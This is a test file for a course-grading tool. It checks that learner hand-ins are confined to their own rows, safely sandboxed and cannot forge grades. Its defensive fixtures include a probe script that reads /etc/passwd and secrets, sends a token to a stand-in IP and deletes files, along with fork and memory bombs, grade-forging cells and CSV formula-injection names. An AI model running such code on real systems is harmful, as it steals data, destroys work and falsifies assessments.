"""Grading: every learner has a row, whatever one file does; a bent record is a problem of its own row alone."""

import csv
import io
import json
import os
import zlib
from contextlib import suppress
from pathlib import Path

import pytest

import labkit
from labkit.base.data import lessons_dir
from labkit.cli.entry import main
from labkit.course import grading, sandbox
from labkit.course.grading import collect, table
from labkit.course.rerunning import _lines
from labkit.course.running import from_plain, plain

GOOD = {"format": 1, "lessons": {"00": {"predictions": {}, "exercises": {"00.1": {"status": "right", "attempts": 1}}}}}


def _with(**part):
    return {"format": 1, "lessons": {"00": {"predictions": {}, "exercises": {}, **part}}}


BENT = {
    "a status that is a word alone": _with(exercises={"00.1": "right"}),
    "a status that is a number": _with(exercises={"00.1": {"status": 1}}),
    "a status nobody gives": _with(exercises={"00.1": {"status": "excellent"}}),
    "attempts in words": _with(exercises={"00.1": {"status": "right", "attempts": "many"}}),
    "a letter without confidence": _with(predictions={"p1": {"letter": "B"}}),
    "a confidence of another course": _with(predictions={"p1": {"letter": "B", "confidence": "very"}}),
    "predictions as a list": _with(predictions=["p1"]),
    "a lesson that is a list": {"format": 1, "lessons": {"00": []}},
    "lessons that are a list": {"format": 1, "lessons": []},
    "a list": [],
    "nested deep": "[" * 100_000,
    "no JSON": "{oops",
    "not UTF-8": b"\xff\xfe\x00",
}


@pytest.fixture
def handed_in(tmp_path):
    (tmp_path / "anna").mkdir()
    (tmp_path / "anna" / "progress.json").write_text(json.dumps(GOOD))
    (tmp_path / "ben").mkdir()
    return tmp_path


def _write(path, content):
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content if isinstance(content, str) else json.dumps(content))


def _rows(folder):
    head, *rows = table(collect(folder))
    return {row[0]: dict(zip(head, row)) for row in rows}


@pytest.mark.parametrize("content", BENT.values(), ids=BENT.keys())
def test_a_bent_record_is_a_problem_of_its_own_row(handed_in, content):
    _write(handed_in / "ben" / "progress.json", content)
    rows = _rows(handed_in)
    assert rows["anna"]["right"] == "1" and not rows["anna"]["problem"]
    assert rows["ben"]["right"] == "0" and rows["ben"]["problem"]


@pytest.mark.parametrize(
    ("name", "content"),
    [("code.txt", "TS00|1:r"), ("code.txt", ""), ("progress.json", {"format": 1, "lessons": {}})],
)
def test_a_file_in_which_nothing_is_found_has_a_row(handed_in, name, content):
    _write(handed_in / "ben" / name, content)
    assert "no whole code" in _rows(handed_in)["ben"]["problem"]


@pytest.mark.parametrize("name", ["progress (1).json", "smithben_123_progress.json", "progress-final.json"])
def test_a_renamed_file_counts(handed_in, name):
    _write(handed_in / "ben" / name, GOOD)
    assert _rows(handed_in)["ben"]["right"] == "1"


def test_who_handed_in_nothing_readable_has_a_row_that_names_it(handed_in):
    (handed_in / "ben" / "essay.docx").write_text("")
    (handed_in / "cleo").mkdir()
    rows = _rows(handed_in)
    assert "essay.docx" in rows["ben"]["problem"] and "nothing was handed in" in rows["cleo"]["problem"]


@pytest.mark.parametrize("notebook", [{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}, {"cells": []}, {}])
def test_a_notebook_that_is_none_is_told(handed_in, notebook):
    _write(handed_in / "ben" / "00.ipynb", notebook)
    assert _rows(handed_in)["ben"]["problem"]


def test_our_own_solutions_earn_nothing(handed_in):
    from labkit.base.data import lessons_dir

    name = "00_cut_compare_restore_solutions.ipynb"
    (handed_in / "ben" / name).write_bytes((lessons_dir() / "00_cut_compare_restore" / name).read_bytes())
    assert "our solutions" in _rows(handed_in)["ben"]["problem"]


def test_without_a_room_code_is_run_only_when_its_teacher_says_so(handed_in, capsys, monkeypatch):
    monkeypatch.setattr(sandbox, "isolated", lambda: False)
    assert main(["grade", str(handed_in), "--run"]) == 2
    assert "--trusted" in capsys.readouterr().err


def test_no_learner_speaks_for_another(handed_in):
    body = "TS00|1:w9"
    _write(handed_in / "ben" / "code.txt", f"anna, {body}|{zlib.crc32(body.encode()) & 0xFFFF:04x}")
    rows = _rows(handed_in)
    assert rows["anna"]["right"] == "1" and rows["ben"]["00.1"] == "wrong, 9 tries"


@pytest.mark.parametrize("bent", ["TS00|99:r1", "TS00|p1:Bz", "TS00|1:r" + "9" * 5000])
def test_a_bent_code_takes_no_other_learner_of_the_list_along(tmp_path, bent):
    bodies = {"anna": "TS00|1:r1", "ben": bent, "cleo": "TS00|1:r2"}
    codes = [f"{who}, {body}|{zlib.crc32(body.encode()) & 0xFFFF:04x}" for who, body in bodies.items()]
    _write(tmp_path / "codes.txt", "\n".join(codes))
    rows = _rows(tmp_path / "codes.txt")
    assert rows["anna"]["right"] == rows["cleo"]["right"] == "1" and rows["ben"]["problem"]


def test_a_bent_lesson_takes_no_other_lesson_of_the_record_along(handed_in):
    _write(handed_in / "ben" / "progress.json", {"format": 1, "lessons": {"000": [], **GOOD["lessons"]}})
    found = [one for one in collect(handed_in) if one.who == "ben"]
    assert [one.exercises["00.1"]["status"] for one in found if not one.problem] == ["right"]
    assert [one.lesson for one in found if one.problem] == ["000"]


def test_a_link_is_not_followed(handed_in):
    (handed_in / "ben" / "progress.json").symlink_to(handed_in / "anna" / "progress.json")
    (handed_in / "cleo").symlink_to(handed_in / "anna")
    rows = _rows(handed_in)
    assert rows["ben"]["problem"] and rows["cleo"]["problem"] == "it is a link, which is not followed"


# ------------------------------------------------------------------------------------------------- run again


def notebook(*cells):
    """Return a notebook of code cells as text."""
    made = [
        {"cell_type": "code", "source": cell, "metadata": {}, "execution_count": None, "outputs": [], "id": f"c{i}"}
        for i, cell in enumerate(cells)
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


RIGHT = "import labkit\nlesson = labkit.open_lesson('00')\nlesson.exercise('00.1').check(2.718281828 ** 0.16)"
# GRADER is this process, THERE the folder that is graded, PACKAGE labkit's, TEACHER a home. Where an act of these were
# to succeed, nothing but a folder of this test would be lost.
SPY = """import os, pathlib, shutil, socket, subprocess, sys
found = [name for name in os.environ if "SECRET" in name]
def send():
    with socket.create_connection(("192.0.2.1", 80), 1) as line:
        line.send(b"token")
acts = {
    "read what is graded": lambda: pathlib.Path(THERE, "spy", "00.ipynb").read_text(),
    "read /etc": lambda: pathlib.Path("/etc/passwd").read_text(),
    "read a home": lambda: next(path for path in pathlib.Path(TEACHER).iterdir() if path.is_file()).read_bytes(),
    "look out through a link": lambda: (os.symlink(THERE, "out"), os.listdir("out")),
    "write": lambda: pathlib.Path(THERE, "progress.json").write_text("{}"),
    "delete": lambda: shutil.rmtree(THERE),
    "send": send,
    "ask for a name": lambda: socket.getaddrinfo("example.org", 80),
    "edit labkit": lambda: open(os.path.join(PACKAGE, "__init__.py"), "a").close(),
    "add to labkit": lambda: pathlib.Path(PACKAGE, "spy.txt").write_text(""),
    "add to Python": lambda: pathlib.Path(sys.prefix, "spy.txt").write_text(""),
    "kill": lambda: os.kill(GRADER, 0),
    "fill memory with files": lambda: [open(f"/dev/shm/{i}", "wb").write(bytes(60 << 20)) for i in range(6)],
    "and beside them": lambda: pathlib.Path("/dev/a").write_text(""),
}
for name, act in acts.items():
    try:
        act(); found.append(name)
    except (OSError, StopIteration):
        pass
subprocess.Popen(["sleep", STAYS], start_new_session=True)
raise RuntimeError(f"harm {found} {os.path.exists(THERE)}")"""
STAYS = "86399.25"  # seconds of sleep, by which what a hand-in left running is known
OPEN = "import labkit\nlesson = labkit.open_lesson('00')\n"
HANDED_IN = {
    "anna": (RIGHT,),
    "ends itself": (RIGHT, "import os; os._exit(1)"),
    "goes on for ever": (RIGHT, "while True: pass"),
    "prints without end": (RIGHT, "while True: print('for ever' * 1000)"),
    "writes without end": (RIGHT, "with open('big', 'wb') as file:\n    while True: file.write(bytes(1 << 20))"),
    "forks": (RIGHT, "import os, time\nfor _ in range(280):\n    if os.fork() == 0: time.sleep(600)\ntime.sleep(2)"),
    "fakes its record": (
        OPEN + "lesson.exercise('00.1').check(77.0)",
        "for name in ('my/progress.json', 'progress.json'): open(name, 'w').write(FAKED)".replace(
            "FAKED", repr(json.dumps(GOOD))
        ),
        'print(\'{"exercise": "00.2", "status": "right"}\', file=open(\'answers.jsonl\', \'a\'))',
    ),
    "reads the answers": (OPEN + "for one in lesson.facts.exercises: lesson.exercise(one.id).check(one.answer)",),
    "judges itself": (
        OPEN + "from labkit.course.exercises import right\nfacts = lesson.facts.exercise('00.1')",
        "object.__setattr__(facts, 'check', lambda answer: right())",
        "lesson.exercise('00.1').check(77.0)",
    ),
    "an own file": (OPEN + "import helper\nlesson.exercise('00.1').check(helper.answer)",),
    "code": (OPEN + "lesson.exercise('00.2').check(lambda *given: 1)",),
    "takes memory": ("x = bytearray(8 << 30)",),
    "untouched": (OPEN + "lesson.exercise('00.1').check(...)",),
}


@pytest.mark.skipif(not sandbox.isolated(), reason="bubblewrap does not work here")
def test_hand_ins_are_run_where_they_do_no_harm_and_their_values_are_judged_outside(tmp_path, monkeypatch):
    monkeypatch.setenv("SECRET_TOKEN", "x")
    package = str(Path(labkit.__file__).parent)
    spy = SPY.replace("THERE", repr(str(tmp_path))).replace("PACKAGE", repr(package)).replace("STAYS", repr(STAYS))
    spy = spy.replace("TEACHER", repr(str(Path.home()))).replace("GRADER", str(os.getpid()))
    for who, cells in {**HANDED_IN, "spy": (spy,)}.items():
        (tmp_path / who).mkdir()
        (tmp_path / who / "00.ipynb").write_text(notebook(*cells))
    (tmp_path / "an own file" / "helper.py").write_text("answer = 2.718281828 ** 0.16")
    (tmp_path / "fakes its record" / "progress.json").write_text(json.dumps(GOOD))
    before = sorted(path.name for path in tmp_path.rglob("*"))
    found = collect(tmp_path, again=True, seconds=40, say=lambda line: None)
    head, *rows = table(found)
    rows = {row[0]: dict(zip(head, row)) for row in rows}
    assert set(rows) == {*HANDED_IN, "spy"} and len(found) == len(rows)
    right = {who for who, row in rows.items() if row["00.1"].startswith("right")}
    without_end = {"goes on for ever", "prints without end", "writes without end", "forks"}
    assert right == {"anna", "ends itself", "an own file", *without_end}
    assert "stopped after 40 s" in rows["goes on for ever"]["problem"] and not rows["anna"]["problem"]
    assert "ended by itself" in rows["ends itself"]["problem"]
    assert "attempted no exercise" in rows["reads the answers"]["problem"] + rows["untouched"]["problem"]
    assert rows["judges itself"]["00.1"] == "wrong, 1 tries", "the teacher's own process has the last word"
    assert rows["fakes its record"]["00.1"] == "wrong, 1 tries", "what was run counts, not what was handed in beside it"
    assert rows["fakes its record"]["00.2"] == "right, 1 tries, called where it ran", "so it can be forged, and says so"
    assert rows["code"]["00.2"].endswith("called where it ran")
    assert "harm [] False" in rows["spy"]["problem"] and "MemoryError" in rows["takes memory"]["problem"]
    assert "too large" in rows["writes without end"]["problem"]
    printed = rows["prints without end"]["problem"]  # on a fast machine its memory is full before its time is up
    assert "stopped after 40 s" in printed or "MemoryError" in printed or "GB" in printed
    # The limit inside does not bind root: then it is the count outside.
    assert "BlockingIOError" in rows["forks"]["problem"] or "256 processes" in rows["forks"]["problem"]
    assert not _running(STAYS)
    assert sorted(path.name for path in tmp_path.rglob("*")) == before


@pytest.mark.skipif(not sandbox.isolated(), reason="bubblewrap does not work here")
@pytest.mark.parametrize(
    ("each", "limit", "told"),
    [
        ("held = bytes([1]) * (100 << 20)", {"MEMORY": 250 << 20}, "more than 0.244 GB"),
        ("pass", {"PROCESSES": 3}, "more than 3 processes"),
    ],
)
def test_what_a_hand_in_started_is_limited_together(tmp_path, monkeypatch, each, limit, told):
    for name, value in limit.items():
        monkeypatch.setattr(sandbox, name, value)
    lines = [
        "import os, time",
        "for _ in range(4):",
        f"    if os.fork() == 0: {each}; time.sleep(600)",
        "time.sleep(600)",
    ]
    (tmp_path / "many.py").write_text("\n".join(lines))
    assert told in sandbox.run("many", [], tmp_path, 60, inside=True)
    (tmp_path / "few.py").write_text("held = bytes(100 << 20)")
    monkeypatch.undo()
    assert sandbox.run("few", [], tmp_path, 60, inside=True) == ""


def _running(word):
    """Return the processes of this machine in whose command a word stands."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):  # it has ended meanwhile
            found += [path] * (word.encode() in path.read_bytes())
    return found


def test_a_record_that_became_a_link_is_not_read(tmp_path):
    (tmp_path / "another").write_text('{"exercise": "00.1", "status": "right"}')
    (tmp_path / "answers.jsonl").symlink_to(tmp_path / "another")
    assert _lines(tmp_path / "another") and not _lines(tmp_path / "answers.jsonl")


def test_a_stopped_grading_keeps_what_is_done(tmp_path, monkeypatch):
    for who in ("anna", "ben", "cleo"):
        (tmp_path / who).mkdir()
        (tmp_path / who / "00.ipynb").write_text(notebook(RIGHT))

    def run(path, seconds, inside):
        if path.parent.name == "ben":
            raise KeyboardInterrupt
        return grading.Ran({"00": {"00.1": {"status": "right", "attempts": 1}}})

    monkeypatch.setattr(grading, "run_again", run)
    rows = {one.who: one for one in collect(tmp_path, again=True, say=lambda line: None)}
    assert rows["anna"].exercises and "stopped" in rows["ben"].problem and "stopped" in rows["cleo"].problem


@pytest.mark.parametrize("answer", [None, True, 3, 2.5, float("inf"), "B", (0.5, 1), [1, "a"], {1: (2,)}, {4, 5}])
def test_an_answer_that_is_data_comes_back_as_it_went(answer):
    assert from_plain(json.loads(json.dumps(plain(answer)))) == answer


@pytest.mark.parametrize("kept", [[1], {"a": 1}, {"int": "x" * 500}, {"list": 3}, {"__class__": []}, {"int": 1}, 5])
def test_what_a_hand_in_may_have_written_itself_is_no_answer(kept):
    with pytest.raises((ValueError, TypeError)):
        from_plain(kept)


def test_code_is_not_data():
    with pytest.raises(TypeError):
        plain(lambda: 1)


def test_our_solutions_are_known_under_another_name(handed_in):
    name = "00_cut_compare_restore_solutions.ipynb"
    (handed_in / "ben" / "mine.ipynb").write_bytes((lessons_dir() / "00_cut_compare_restore" / name).read_bytes())
    assert "our solutions" in _rows(handed_in)["ben"]["problem"]


@pytest.mark.parametrize("name", ["=cmd()", "+1", "-1", "@a", "\t=1", " =1", "\n=1", "＝1"])
def test_no_cell_of_the_table_is_a_formula(handed_in, capsys, name):
    (handed_in / name).mkdir()
    _write(handed_in / name / "progress.json", GOOD)
    assert main(["grade", str(handed_in)]) == 0
    rows = csv.reader(io.StringIO(capsys.readouterr().out))
    assert f"'{name}" in [row[0] for row in rows]
